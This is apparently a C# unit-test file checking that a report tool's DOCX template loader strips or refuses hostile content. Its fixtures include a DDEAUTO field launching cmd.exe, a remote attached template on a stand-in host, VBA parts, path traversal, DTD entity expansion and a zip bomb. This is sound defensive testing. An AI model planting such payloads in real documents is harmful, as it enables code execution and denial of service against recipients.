using System.IO;
using System.IO.Compression;
using System.Linq;
using System.Text;
using DocumentFormat.OpenXml.Packaging;
using Send.Domain.Validation;
using Send.Reporting.Styling;
using Send.Reporting.Tests.Docx;
using Send.Reporting.Tests.Support;
using Xunit;

namespace Send.Reporting.Tests.Styling;

/// <summary>
/// What an unlucky export or an attacker puts in a house style never reaches a report (issue 12, items 7 and 8):
/// zip bombs, external relationships, macros under any name, DTDs, entries that leave the package, invalid parts.
/// </summary>
public sealed class HouseStyleSafetyTests
{
    private const string Markdown = "# Recommendation\n\nThat the Committee notes the report.\n";
    private const string Relationships = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

    [Fact]
    public void Load_AttachedTemplateLinkedImageAndVbaProject_ReportHasNoneOfThem()
    {
        var reference = HouseStyleTests.Edit(HouseStyleBuilder.Build(), main =>
        {
            var settings = main.DocumentSettingsPart!;
            settings.AddExternalRelationship(Relationships + "/attachedTemplate", new System.Uri("http://evil.example/template.dotm"), "rIdTemplate");
            settings.Settings!.PrependChild(new DocumentFormat.OpenXml.Wordprocessing.AttachedTemplate { Id = "rIdTemplate" });
            var footer = main.FooterParts.Single();
            footer.AddExternalRelationship(Relationships + "/image", new System.Uri("file://fileserver/share/logo.png"), "rIdLogo");
            var vba = main.AddNewPart<VbaProjectPart>("rIdVba");
            using var bytes = new MemoryStream(new byte[] { 0xD0, 0xCF, 0x11, 0xE0 });
            vba.FeedData(bytes);
        });

        var style = HouseStyle.Load(reference, "council.docx");
        var docx = new ReportEngine(style).MarkdownToDocx(Markdown, "test.md");

        var text = string.Concat(HouseStylePackageTests.Entries(docx).Select(e => e.Key + "\n" + Encoding.UTF8.GetString(e.Value)));
        Assert.DoesNotContain("evil.example", text);
        Assert.DoesNotContain("fileserver", text);
        Assert.DoesNotContain("attachedTemplate", text);
        Assert.DoesNotContain("vba", text, System.StringComparison.OrdinalIgnoreCase);
        Assert.Contains(style.Warnings, w => w.Message.Contains("attached template") && w.Message.Contains("evil.example"));
        Assert.Contains(style.Warnings, w => w.Message.Contains("linked image") && w.Message.Contains("fileserver"));
        Assert.Contains(style.Warnings, w => w.Field == "word/vbaProject.bin");
        DocxAssert.Valid(docx);
    }

    [Fact]
    public void Load_VbaProjectBehindAPlainContentType_IsStripped()
    {
        var reference = AddEntry(HouseStyleBuilder.Build(), "word/vbaProject.bin", new byte[] { 0xD0, 0xCF, 0x11, 0xE0 }, contentType: ("bin", "application/octet-stream"));

        var style = HouseStyle.Load(reference, "council.docx");
        var docx = new ReportEngine(style).MarkdownToDocx(Markdown, "test.md");

        Assert.DoesNotContain(HouseStylePackageTests.Entries(docx).Keys, n => n.Contains("vbaProject", System.StringComparison.Ordinal));
        Assert.Contains(style.Warnings, w => w.Field == "word/vbaProject.bin" && w.Message.Contains("macros"));
    }

    [Fact]
    public void Load_FooterFieldsThatFetchOrRun_AreNeutralised()
    {
        var footer = Encoding.UTF8.GetString(HouseStylePackageTests.Entries(HouseStyleBuilder.Build())["word/footer1.xml"]);
        var fields = "<w:fldSimple w:instr=\" INCLUDEPICTURE &quot;\\\\\\\\fileserver\\\\logo.png&quot; \"><w:r><w:t>logo</w:t></w:r></w:fldSimple>"
            + "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText xml:space=\"preserve\"> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/c calc\" </w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r>";
        var reference = HouseStylePackageTests.Rewrite(HouseStyleBuilder.Build(), "word/footer1.xml", Encoding.UTF8.GetBytes(footer.Replace("</w:p>", fields + "</w:p>", System.StringComparison.Ordinal)));

        var style = HouseStyle.Load(reference, "council.docx");
        var docx = new ReportEngine(style).MarkdownToDocx(Markdown, "test.md");

        var written = Encoding.UTF8.GetString(HouseStylePackageTests.Entries(docx)["word/footer1.xml"]);
        Assert.DoesNotContain("fileserver", written);
        Assert.DoesNotContain("cmd.exe", written);
        Assert.Contains("logo", written);
        Assert.Contains(style.Warnings, w => w.Field == "word/footer1.xml" && w.Message.Contains("INCLUDEPICTURE, DDEAUTO"));
        DocxAssert.Valid(docx);
    }

    [Fact]
    public void Load_EntryNameLeavingThePackage_IsDroppedWithAWarning()
    {
        var reference = AddEntry(HouseStyleBuilder.Build(), "../../evil.xml", Encoding.UTF8.GetBytes("<x/>"), contentType: null);

        var style = HouseStyle.Load(reference, "council.docx");
        var docx = new ReportEngine(style).MarkdownToDocx(Markdown, "test.md");

        Assert.DoesNotContain(HouseStylePackageTests.Entries(docx).Keys, n => n.Contains("evil", System.StringComparison.Ordinal));
        Assert.Contains(style.Warnings, w => w.Field == "../../evil.xml");
    }

    [Theory]
    [InlineData("word/footer1.xml")]
    [InlineData("word/settings.xml")]
    public void Load_APartTheDocumentRefersToIsMissing_IsALocatedProblemNotACrash(string part)
    {
        // MutatedHouseStyle_LoadsOrGivesLocatedProblems found a damaged zip whose document still related to a part
        // that was gone by the time the report was written (an InvalidOperationException); Load now checks the
        // relationships again after sanitising, with the same problem as here.
        var reference = RemoveEntry(HouseStyleBuilder.Build(), part);

        var ex = Assert.Throws<DataException>(() => HouseStyle.Load(reference, "council.docx"));

        var problem = Assert.Single(ex.Problems);
        Assert.Equal("council.docx", problem.Source);
        Assert.Equal("SEND-HOUSE-STYLE", problem.Code);
        Assert.Contains("'/" + part + "'", problem.Message, System.StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("word/footer1.xml")]
    [InlineData("word/settings.xml")]
    public void Load_DtdInAPart_IsRemovedWithAWarning(string part)
    {
        var original = HouseStylePackageTests.Entries(HouseStyleBuilder.Build())[part];
        var xml = Encoding.UTF8.GetString(original);
        var root = xml.IndexOf("?>", System.StringComparison.Ordinal) + 2;
        var withDtd = xml.Insert(root, "<!DOCTYPE x [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\">]>");
        var reference = HouseStylePackageTests.Rewrite(HouseStyleBuilder.Build(), part, Encoding.UTF8.GetBytes(withDtd));

        var style = HouseStyle.Load(reference, "council.docx");
        var docx = new ReportEngine(style).MarkdownToDocx(Markdown, "test.md");

        Assert.DoesNotContain("DOCTYPE", Encoding.UTF8.GetString(HouseStylePackageTests.Entries(docx)[part]));
        Assert.Contains(style.Warnings, w => w.Field == part && w.Message.Contains("DTD"));
        DocxAssert.Valid(docx);
    }

    [Fact]
    public void Load_EntityOnlyADtdDeclared_IsALocatedError()
    {
        var xml = Encoding.UTF8.GetString(HouseStylePackageTests.Entries(HouseStyleBuilder.Build())["word/footer1.xml"]).Replace("Page ", "&boom;Page ", System.StringComparison.Ordinal);
        var root = xml.IndexOf("?>", System.StringComparison.Ordinal) + 2;
        var reference = HouseStylePackageTests.Rewrite(HouseStyleBuilder.Build(), "word/footer1.xml", Encoding.UTF8.GetBytes(xml.Insert(root, "<!DOCTYPE x [<!ENTITY boom \"b\">]>")));

        var error = Assert.Throws<DataException>(() => HouseStyle.Load(reference, "council.docx"));

        var problem = Assert.Single(error.Problems);
        Assert.Equal("word/footer1.xml", problem.Field);
        Assert.Contains("line 1", problem.Message);
    }

    [Fact]
    public void Load_ZipBomb_IsRefusedNamingTheLimit()
    {
        // 200 MB of zeros deflates to about 200 KB: over the 64 MB limit long before it is all read.
        using var stream = new MemoryStream();
        stream.Write(HouseStyleBuilder.Build());
        using (var zip = new ZipArchive(stream, ZipArchiveMode.Update, leaveOpen: true))
        {
            using var entry = zip.CreateEntry("word/media/bomb.xml", CompressionLevel.SmallestSize).Open();
            var zeros = new byte[1024 * 1024];
            for (var i = 0; i < 200; i++)
            {
                entry.Write(zeros);
            }
        }

        var before = System.GC.GetAllocatedBytesForCurrentThread();
        var error = Assert.Throws<DataException>(() => HouseStyle.Load(stream.ToArray(), "council.docx"));
        var allocated = System.GC.GetAllocatedBytesForCurrentThread() - before;

        Assert.Contains("decompresses to more than the limit of 64 MB", Assert.Single(error.Problems).Message);
        Assert.True(allocated < 512L * 1024 * 1024, $"allocated {allocated / (1024 * 1024)} MB");
    }

    [Fact]
    public void Load_TooManyEntries_IsRefusedNamingTheLimit()
    {
        using var stream = new MemoryStream();
        stream.Write(HouseStyleBuilder.Build());
        using (var zip = new ZipArchive(stream, ZipArchiveMode.Update, leaveOpen: true))
        {
            for (var i = 0; i < 30; i++)
            {
                zip.CreateEntry($"word/media/e{i}.png");
            }
        }

        var error = Assert.Throws<DataException>(() => HouseStyle.Load(stream.ToArray(), "council.docx", new HouseStyleOptions { Limits = new HouseStyleLimits { MaxEntries = 20 } }));

        Assert.Contains("more than the limit of 20", Assert.Single(error.Problems).Message);
    }

    [Fact]
    public void Load_SchemaInvalidStyles_IsAnErrorNamingThePartElementAndLine()
    {
        var styles = Encoding.UTF8.GetString(HouseStylePackageTests.Entries(HouseStyleBuilder.Build())["word/styles.xml"]);
        var invalid = styles.Replace("<w:b />", "<w:b w:val=\"maybe\" />", System.StringComparison.Ordinal).Replace("<w:b/>", "<w:b w:val=\"maybe\"/>", System.StringComparison.Ordinal);
        Assert.NotEqual(styles, invalid);
        var reference = HouseStylePackageTests.Rewrite(HouseStyleBuilder.Build(), "word/styles.xml", Encoding.UTF8.GetBytes(invalid));

        var error = Assert.Throws<DataException>(() => HouseStyle.Load(reference, "council.docx"));

        var problem = error.Problems.First();
        Assert.Equal("word/styles.xml", problem.Field);
        Assert.Contains("element <w:b>", problem.Message);
        Assert.Contains("line 1, column", problem.Message);
        Assert.Contains("maybe", problem.Message);
    }

    [Fact]
    public void Load_PreviousCommitteePaper_TakesItsStyleAndLeavesItsBodyBehind()
    {
        var paper = HouseStyleTests.Edit(HouseStyleBuilder.Build(), main =>
        {
            var image = main.AddImagePart(ImagePartType.Png, "rIdOldChart");
            using var png = new MemoryStream(new byte[] { 0x89, 0x50, 0x4E, 0x47, 1, 2, 3 });
            image.FeedData(png);
            main.Document!.Body!.PrependChild(new DocumentFormat.OpenXml.Wordprocessing.Paragraph(new DocumentFormat.OpenXml.Wordprocessing.Run(new DocumentFormat.OpenXml.Wordprocessing.Text("Last year's confidential figures"))));
        });

        var style = HouseStyle.Load(paper, "last-year.docx");
        var docx = new ReportEngine(style).MarkdownToDocx(Markdown, "test.md");

        var entries = HouseStylePackageTests.Entries(docx);
        Assert.DoesNotContain(entries.Keys, n => n.StartsWith("word/media/", System.StringComparison.Ordinal));
        Assert.DoesNotContain("confidential", Encoding.UTF8.GetString(entries["word/document.xml"]));
        Assert.Contains("word/footer1.xml", entries.Keys);
        DocxAssert.Valid(docx);
    }

    private static byte[] RemoveEntry(byte[] docx, string name)
    {
        using var stream = new MemoryStream();
        stream.Write(docx);
        using (var zip = new ZipArchive(stream, ZipArchiveMode.Update, leaveOpen: true))
        {
            zip.GetEntry(name)!.Delete();
        }

        return stream.ToArray();
    }

    private static byte[] AddEntry(byte[] docx, string name, byte[] content, (string Extension, string ContentType)? contentType)
    {
        using var stream = new MemoryStream();
        stream.Write(docx);
        using (var zip = new ZipArchive(stream, ZipArchiveMode.Update, leaveOpen: true))
        {
            using (var entry = zip.CreateEntry(name).Open())
            {
                entry.Write(content);
            }

            if (contentType is { } type)
            {
                var types = zip.GetEntry("[Content_Types].xml")!;
                string xml;
                using (var reader = new StreamReader(types.Open()))
                {
                    xml = reader.ReadToEnd();
                }

                types.Delete();
                using var writer = new StreamWriter(zip.CreateEntry("[Content_Types].xml").Open());
                writer.Write(xml.Replace("<Default ", $"<Default Extension=\"{type.Extension}\" ContentType=\"{type.ContentType}\" /><Default ", System.StringComparison.Ordinal));
            }
        }

        return stream.ToArray();
    }
}
